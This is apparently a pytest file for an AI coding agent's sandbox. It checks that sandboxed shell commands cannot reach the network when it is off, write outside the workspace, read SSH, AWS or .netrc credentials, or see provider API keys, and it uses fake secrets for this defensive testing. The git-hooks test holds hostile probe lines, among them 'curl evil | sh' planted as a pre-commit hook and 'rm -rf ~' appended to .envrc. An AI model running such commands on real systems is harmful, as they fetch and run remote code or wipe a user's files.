"""What a sandboxed command can reach: the network, the file system, credentials, the environment."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from a3s_code.config import load_file
from a3s_code.sandbox import SandboxConfig, SandboxConfigError, SecretEnv, build_sandbox
from tests.engine.sandbox.helpers import API_KEY, CONFIG, Shell, marker, needs_bwrap

pytestmark = needs_bwrap
BODY = "hello from the host's loopback"


class _Hello(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        data = BODY.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_args: object) -> None:
        pass


@pytest.fixture
def http_port() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def fetch(port: int) -> str:
    """An HTTP GET in plain bash (/dev/tcp), so the test needs no curl inside the sandbox."""
    return f"exec 3<>/dev/tcp/127.0.0.1/{port} && printf 'GET / HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3 && cat <&3"


async def test_network_off_cannot_reach_a_loopback_server_and_on_can(
    shell: Callable[..., Shell], http_port: int
) -> None:
    closed = await shell().bash(fetch(http_port))
    assert closed.is_error and BODY not in closed.output
    assert "Connection refused" in closed.output
    opened = await shell(network=True).bash(fetch(http_port))
    assert not opened.is_error and BODY in opened.output


async def test_the_sandbox_tool_may_narrow_the_network_but_never_widen_it(
    shell: Callable[..., Shell], http_port: int
) -> None:
    off = shell()
    refused = await off.tool(command=fetch(http_port), network=True)
    assert refused.is_error and "network access is off" in refused.output
    on = shell(network=True)
    narrowed = await on.tool(command=fetch(http_port), network=False)
    assert narrowed.is_error and BODY not in narrowed.output
    assert BODY in (await on.tool(command=fetch(http_port))).output


async def test_only_the_workspace_keeps_writes(
    shell: Callable[..., Shell], workspace: Path, tmp_path: Path
) -> None:
    name = marker()
    sibling = tmp_path / "sibling"
    sibling.mkdir()
    targets = [
        Path("/etc") / name,
        Path.home() / name,
        Path("/usr") / name,
        Path("/var") / name,
        sibling / name,
    ]
    attempts = "; ".join(f"echo x > {t} && echo WROTE {t}" for t in targets)
    result = await shell().bash(f"{attempts}; echo in > {name}; echo mirror > /workspace/{name}.2; echo done")
    assert result.output.endswith("done")
    for target in targets[:4]:  # on the read-only root
        assert f"{target}: Read-only file system" in result.output
    for target in targets:
        assert not target.exists(), f"{target} landed on the host"
    assert (workspace / name).read_text() == "in\n"
    assert (workspace / f"{name}.2").read_text() == "mirror\n"


async def test_touch_in_home_fails_and_tmp_is_private(shell: Callable[..., Shell], tmp_path: Path) -> None:
    name = marker()
    host_tmp = Path("/tmp") / name
    host_tmp.write_text("host file\n")
    try:
        result = await shell().bash(
            f"touch ~/{name}; cat /tmp/{name}; echo private > /tmp/{name}.new; ls /tmp"
        )
    finally:
        host_tmp.unlink()
    assert f"cannot touch '{Path.home() / name}': Read-only file system" in result.output
    assert "host file" not in result.output and f"{name}.new" in result.output
    assert not (Path.home() / name).exists() and not Path(f"/tmp/{name}.new").exists()


def _fake_home(home: Path) -> None:
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- fake\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = fake-aws\n")
    (home / ".netrc").write_text("machine example.com password fake-netrc\n")
    (home / "notes.txt").write_text("ordinary notes\n")


SECRETS = ("OPENSSH PRIVATE KEY", "fake-aws", "fake-netrc")


async def test_credentials_in_a_home_used_as_the_workspace_are_hidden_at_both_paths(
    workspace: Path, tmp_path: Path
) -> None:
    _fake_home(workspace)
    sh = Shell(workspace, SandboxConfig(env={"HOME": str(workspace)}), home=workspace)
    result = await sh.bash(
        "cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc /workspace/.ssh/id_rsa /workspace/.netrc "
        "/workspace/.aws/credentials; ls -A ~/.ssh /workspace/.ssh; cat ~/notes.txt /workspace/notes.txt"
    )
    assert not any(secret in result.output for secret in SECRETS), result.output
    assert result.output.count("ordinary notes") == 2


async def test_credentials_in_a_read_only_mounted_home_are_hidden(workspace: Path, tmp_path: Path) -> None:
    home = tmp_path / "home"
    _fake_home(home)
    config = SandboxConfig(env={"HOME": str(home)}, ro_mounts=[str(home)])
    sh = Shell(workspace, config, home=home)
    result = await sh.bash(
        "cat ~/.ssh/id_rsa; cat ~/.aws/credentials; cat ~/.netrc; cat ~/notes.txt; touch ~/new; echo x > ~/.netrc"
    )
    assert not any(secret in result.output for secret in SECRETS), result.output
    assert "ordinary notes" in result.output and "Read-only file system" in result.output
    assert not (home / "new").exists() and "fake-netrc" in (home / ".netrc").read_text()


async def test_the_real_homes_ssh_folder_reads_empty(shell: Callable[..., Shell]) -> None:
    ssh = Path.home() / ".ssh"
    if not ssh.is_dir() or not any(ssh.iterdir()):
        pytest.skip("no ~/.ssh with files on this machine")
    result = await shell().bash("ls -A ~/.ssh | wc -l")
    assert result.output.strip() == "0"


async def test_the_agent_config_file_holding_the_api_key_reads_empty(workspace: Path) -> None:
    (workspace / "agent.hcl").write_text(CONFIG)
    config = load_file(workspace / "agent.hcl")
    sh = Shell(workspace, build_sandbox(SandboxConfig(), config, workspace))
    result = await sh.bash("cat agent.hcl /workspace/agent.hcl; wc -c < agent.hcl")
    assert API_KEY not in result.output and result.output.strip() == "0"
    assert API_KEY in (workspace / "agent.hcl").read_text()


async def test_provider_keys_never_reach_the_environment(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-from-the-environment")
    monkeypatch.setenv("COPY_OF_KEY", f"Bearer {API_KEY}")
    monkeypatch.setenv("PLAIN_SETTING", "visible")
    monkeypatch.setenv("LC_ALL", "C")
    secrets = SecretEnv(values=frozenset({API_KEY}))
    everything = Shell(workspace, SandboxConfig(env_passthrough=["*"]), secret_env=secrets)
    shown = (await everything.bash("env")).output
    assert "PLAIN_SETTING=visible" in shown
    assert "sk-ant-from-the-environment" not in shown and API_KEY not in shown
    default = Shell(workspace, SandboxConfig(env={"SET_HERE": "1"}), secret_env=secrets)
    shown = (await default.bash("env")).output
    assert "PLAIN_SETTING" not in shown and "LC_ALL=C" in shown and "SET_HERE=1" in shown
    assert "PATH=" in shown and "HOME=" in shown


@pytest.mark.parametrize(
    "config",
    [
        SandboxConfig(env_passthrough=["PATH", "ANTHROPIC_API_KEY"]),
        SandboxConfig(env={"OPENAI_API_KEY": "x"}),
        SandboxConfig(env={"TOKEN": API_KEY}),
    ],
)
def test_settings_that_would_pass_a_provider_key_are_refused(workspace: Path, config: SandboxConfig) -> None:
    with pytest.raises(SandboxConfigError, match="provider API keys never enter the sandbox"):
        Shell(workspace, config, secret_env=SecretEnv(values=frozenset({API_KEY})))


async def test_paths_that_would_run_code_outside_the_sandbox_are_read_only_in_it(
    shell: Callable[..., Shell], workspace: Path
) -> None:
    sh = shell()  # made before the repository exists: each call sees the workspace as it is now
    git = "git -c user.name=t -c user.email=t@example.com"
    created = await sh.bash(
        f"git init -q && echo a > a.txt && git add a.txt && {git} commit -qm one && echo ok"
    )
    assert created.output.endswith("ok"), created.output
    (workspace / ".vscode").mkdir()
    (workspace / ".envrc").write_text("export A=1\n")
    attempts = [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/hooks",
        "echo '{}' > /workspace/.vscode/tasks.json",
        "echo 'rm -rf ~' >> .envrc",
    ]
    result = await sh.bash(
        "; ".join(f"{a} || echo REFUSED" for a in attempts)
        + f"; {git} commit -qam two --allow-empty && echo committed"
    )
    assert result.output.count("REFUSED") == len(attempts), result.output
    assert result.output.endswith("committed")
    assert (
        not (workspace / ".git/hooks/pre-commit").exists() and not (workspace / ".vscode/tasks.json").exists()
    )
    assert "hooksPath" not in (workspace / ".git/config").read_text()
    assert (workspace / ".envrc").read_text() == "export A=1\n"


async def test_a_credential_folder_made_after_the_session_started_is_hidden(workspace: Path) -> None:
    sh = Shell(workspace, SandboxConfig(env={"HOME": str(workspace)}), home=workspace)
    assert (await sh.bash("cat notes.txt 2>/dev/null; echo first")).output == "first"
    _fake_home(workspace)
    result = await sh.bash("cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc; cat ~/notes.txt")
    assert not any(secret in result.output for secret in SECRETS), result.output
    assert "ordinary notes" in result.output
